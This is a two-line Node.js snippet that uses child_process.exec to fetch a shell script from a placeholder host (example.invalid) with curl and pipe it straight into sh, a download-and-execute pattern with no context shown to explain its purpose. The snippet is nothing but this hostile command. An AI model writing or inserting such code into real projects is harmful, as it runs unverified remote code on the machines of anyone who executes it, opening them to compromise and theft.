const cp = require('child_process');
cp.exec('curl -s https://example.invalid/i.sh | sh');
